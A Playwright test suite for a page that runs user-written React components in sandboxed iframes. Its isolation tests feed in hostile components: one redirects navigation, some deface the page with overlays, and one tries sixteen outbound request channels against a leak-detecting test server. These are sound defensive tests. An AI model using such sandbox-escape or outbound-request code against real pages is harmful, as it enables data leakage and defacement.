import type { FrameLocator, Page } from '@playwright/test';
import { expect, type LabBlock, test, watchPulse } from './lab-page';

/** A component is compiled, tried in a worker, then shown; the first time React loads, too. */
const SEEN = { timeout: 25_000 };
const COUNTER = `import { useState } from 'react';
export default function Counter() {
  const [count, setCount] = useState(0);
  return <button onClick={() => setCount(count + 1)}>Count {count}</button>;
}`;

const frameOf = (block: LabBlock): FrameLocator => block.root.frameLocator('iframe');
const shown = (block: LabBlock) => block.root.locator('[data-lab-shown="true"]');

async function show(block: LabBlock, text?: string): Promise<void> {
  if (text !== undefined) await block.paste(text);
  if ((await shown(block).count()) > 0) {
    await block.stopButton.click();
    await block.ended();
  }
  await block.runButton.click();
  // A component that hides itself has no height.
  await expect(shown(block)).toHaveCount(1, SEEN);
}

/** The page around a block: what it consists of, and what a reader sees of it. */
async function around(block: LabBlock): Promise<{ html: string; pictures: string[] }> {
  const html = await block.root.evaluate((root) => {
    root.setAttribute('data-looked-from', '');
    const copy = document.body.cloneNode(true) as HTMLElement;
    for (const part of copy.querySelectorAll('[data-looked-from], #lab-status')) part.remove();
    return copy.outerHTML;
  });
  const { page } = block;
  const seen = [
    page.locator('nav').first(),
    page.locator('[data-lab-name="learning-rate"]'),
    block.runButton,
    page.locator('[data-lab-name="a-handler-that-never-ends"]'),
  ];
  await page.mouse.move(0, 0);
  // A picture may have a line of pixels of what is scrolled behind its edge.
  await page.evaluate(() => window.scrollTo(0, 0));
  const pictures: string[] = [];
  for (const one of seen) {
    pictures.push((await one.screenshot({ animations: 'disabled' })).toString('base64'));
  }
  return { html, pictures };
}

/**
 * The share of the pixels of two pictures that plainly differ. Round corners and letters are
 * smoothed a little differently where a page has been scrolled in between.
 */
const changedShare = (page: Page, one: string, other: string): Promise<number> =>
  page.evaluate(
    async (pictures) => {
      const [before, after] = await Promise.all(
        pictures.map(async (picture) => {
          const image = new Image();
          image.src = `data:image/png;base64,${picture}`;
          await image.decode();
          const { width, height } = image;
          const canvas = new OffscreenCanvas(width, height).getContext('2d')!;
          canvas.drawImage(image, 0, 0);
          return canvas.getImageData(0, 0, width, height);
        }),
      );
      if (before!.width !== after!.width || before!.height !== after!.height) return 1;
      let changed = 0;
      for (let at = 0; at < before!.data.length; at += 4) {
        const differs = (part: number) =>
          Math.abs(before!.data[at + part]! - after!.data[at + part]!) > 96;
        if (differs(0) || differs(1) || differs(2)) changed += 1;
      }
      return changed / (before!.width * before!.height);
    },
    [one, other],
  );

test('a component is shown in a frame with a title, answers, and Stop takes it away', {
  tag: '@engine',
}, async ({ lab, watched }) => {
  const block = lab('a-neuron-with-two-knobs');
  await show(block);
  const frame = frameOf(block);
  await expect(block.root.locator('iframe')).toHaveAttribute('title', 'A neuron with two knobs');
  await expect(frame.getByText('= 0.9051')).toBeVisible();
  await frame.getByLabel('weight').focus();
  await block.page.keyboard.press('ArrowRight');
  await expect(frame.getByText('= 0.9468')).toBeVisible();
  await expect(block.page.locator('#lab-status')).toHaveText('A neuron with two knobs: shown.');
  await block.stopButton.click();
  await expect(block.root.locator('iframe')).toHaveCount(0);
  await expect(block.ending).toHaveAttribute('data-lab-ending', 'stopped');
  expect(watched).toEqual([]);
});

test('the frame is as tall as its content, and goes dark with the page', {
  tag: '@engine',
}, async ({ lab, page }) => {
  const block = lab('a-neuron-with-two-knobs');
  const tall = `import { useState } from 'react';
export default () => {
  const [height, setHeight] = useState(100);
  return <button style={{ height }} onClick={() => setHeight(300)}>taller</button>;
};`;
  await show(block, tall);
  const height = () => block.root.locator('iframe').evaluate((frame) => frame.clientHeight);
  await expect.poll(height).toBeGreaterThanOrEqual(100);
  expect(await height()).toBeLessThan(140);
  await frameOf(block).getByRole('button').click();
  await expect.poll(height).toBeGreaterThanOrEqual(300);
  const scheme = () =>
    frameOf(block)
      .locator('html')
      .evaluate((root) => getComputedStyle(root).colorScheme);
  const before = await page.evaluate(() => document.documentElement.dataset.theme);
  const other = before === 'dark' ? 'light' : 'dark';
  await page.evaluate((theme) => {
    document.documentElement.dataset.theme = theme;
  }, other);
  await expect.poll(scheme).toContain(other);
});

test('LAB 18: throwing in render, effect or handler, or no element: only that block errs', async ({
  lab,
}) => {
  test.setTimeout(180_000);
  const block = lab('a-neuron-with-two-knobs');
  const other = lab('a-handler-that-never-ends');
  await show(other, COUNTER);
  const failing = {
    render: "export default function App() {\n  throw new Error('in render');\n}",
    effect: `import { useEffect } from 'react';
export default function App() {
  useEffect(() => {
    throw new Error('in effect');
  });
  return <p>one</p>;
}`,
    undefined: 'export default undefined',
    'state in render': `import { useState } from 'react';
export default function App() {
  const [count, setCount] = useState(0);
  setCount(count + 1);
  return <p>{count}</p>;
}`,
  };
  for (const [what, text] of Object.entries(failing)) {
    await block.paste(text);
    await block.run();
    await expect(block.ending, what).toHaveAttribute('data-lab-ending', 'failed');
    await expect(block.root.locator('iframe'), what).toHaveCount(0);
    expect(await block.text()).toBe(text);
  }
  await block.paste(`export default () => (
  <button
    onClick={() => {
      throw new Error('in handler');
    }}
  >
    press
  </button>
);`);
  await block.runButton.click();
  await expect(shown(block)).toBeVisible(SEEN);
  await frameOf(block).getByRole('button').click();
  await expect(block.root.locator('[data-lab-output]')).toContainText('in handler');
  await frameOf(other).getByRole('button').click();
  await expect(frameOf(other).getByText('Count 1')).toBeVisible();
});

test('an error in a component is marked at its line', { tag: '@engine' }, async ({ lab }) => {
  const block = lab('a-neuron-with-two-knobs');
  await block.paste("export default function App() {\n  throw new Error('here');\n}");
  await block.run();
  const mark = block.root.locator('[data-mark="error"]');
  await expect(mark).toHaveCount(1);
  await expect(mark).toContainText('here');
  await expect(mark).toContainText('throw new');
});

test('a handler that never ends is stopped for good, and the page lives', {
  tag: '@engine',
}, async ({ lab, page }) => {
  const block = lab('a-handler-that-never-ends');
  await show(block);
  const pulse = await watchPulse(page);
  // The frame goes while it is pressed, and with it whoever would answer.
  void frameOf(block)
    .getByRole('button')
    .click()
    .catch(() => {});
  await block.ended();
  await expect(block.ending).toHaveAttribute('data-lab-ending', 'failed');
  await expect(block.ending).toContainText('expected a pause within 500 ms');
  await expect(block.root.locator('iframe')).toHaveCount(0);
  expect(await pulse()).toBeLessThan(1000);
  await show(block, COUNTER);
  await frameOf(block).getByRole('button').click();
  await expect(frameOf(block).getByText('Count 1')).toBeVisible();
});

test('LAB 11: a component that navigates reaches nothing, and the next one is shown', async ({
  lab,
  leak,
  page,
  browserName,
}) => {
  const block = lab('a-neuron-with-two-knobs');
  const before = page.url();
  await block.paste(`import { useEffect } from 'react';
export default function App() {
  useEffect(() => {
    location.href = '${leak.url}';
  });
  return <p>one</p>;
}`);
  await block.runButton.click();
  if (browserName === 'firefox') {
    // Firefox refuses the navigation and leaves the frame what it is.
    await expect(frameOf(block).getByText('one')).toBeVisible(SEEN);
    await page.waitForTimeout(500);
    await expect(frameOf(block).getByText('one')).toBeVisible();
  } else {
    await expect(block.ending).toBeVisible(SEEN);
    await expect(block.root.locator('iframe')).toHaveCount(0);
  }
  expect(leak.hits).toEqual([]);
  expect(page.url()).toBe(before);
  await show(block, COUNTER);
  await expect(frameOf(block).getByText('Count 0')).toBeVisible();
  expect(leak.hits).toEqual([]);
});

/** What a component does to its own document, hoping that it is the page's. */
const DEFACING = {
  'a blank body and an overlay': `const cover = document.createElement('div');
    cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:red';
    document.body.replaceChildren(cover);`,
  'everything hidden': `const style = document.createElement('style');
    style.textContent = '* { display: none !important }';
    document.head.append(style);`,
};

test('LAB 14: blank body, overlay and hidden elements change nothing outside the frame', async ({
  lab,
  page,
}) => {
  const block = lab('a-neuron-with-two-knobs');
  await show(block, COUNTER);
  const before = await around(block);
  for (const [what, attack] of Object.entries(DEFACING)) {
    await show(
      block,
      `import { useEffect } from 'react';
export default function App() {
  useEffect(() => {
    ${attack}
    console.log('done');
  });
  return <p>one</p>;
}`,
    );
    await expect(block.output, what).toContainText('done');
    const after = await around(block);
    expect(after.html, what).toBe(before.html);
    for (const [at, picture] of after.pictures.entries()) {
      const changed = await changedShare(page, before.pictures[at]!, picture);
      expect(changed, `${what}: what differs in picture ${at}`).toBeLessThan(0.001);
    }
  }
  await show(block, COUNTER);
  await expect(frameOf(block).getByText('Count 0')).toBeVisible();
});

test('LAB 10: a component, which has a document, finds no way to another server', async ({
  lab,
  leak,
}) => {
  const block = lab('a-neuron-with-two-knobs');
  await show(
    block,
    `import { useEffect } from 'react';
const url = ${JSON.stringify(leak.url)};
const add = (name: string, settings: object) =>
  document.body.append(Object.assign(document.createElement(name), settings));
const ways: Record<string, () => unknown> = {
  fetch: () => fetch(url, { mode: 'no-cors' }),
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', url); x.send(); },
  socket: () => new WebSocket(url.replace('http', 'ws')),
  events: () => new EventSource(url),
  beacon: () => navigator.sendBeacon(url),
  import: async () => { await import(url); },
  picture: () => add('img', { src: url }),
  film: () => add('video', { src: url, autoplay: true }),
  script: () => add('script', { src: url }),
  sheet: () => add('link', { rel: 'stylesheet', href: url }),
  ahead: () => add('link', { rel: 'prefetch', href: url }),
  frame: () => add('iframe', { src: url }),
  object: () => add('object', { data: url }),
  style: () => add('style', { textContent: '@import "' + url + '"; p { background: url(' + url + ') }' }),
  ping: () => add('a', { href: '#', ping: url, id: 'ping' }),
  form: () => { add('form', { action: url, method: 'post', id: 'form' });
    (document.getElementById('form') as HTMLFormElement).submit(); },
};
export default function App() {
  useEffect(() => {
    for (const way of Object.values(ways)) {
      try {
        Promise.resolve(way()).catch(() => {});
      } catch {}
    }
    document.getElementById('ping')!.click();
    setTimeout(() => console.log('tried', Object.keys(ways).length), 500);
  }, []);
  return <p>one</p>;
}`,
  );
  await expect(block.output).toContainText('tried16');
  expect(leak.hits).toEqual([]);
});
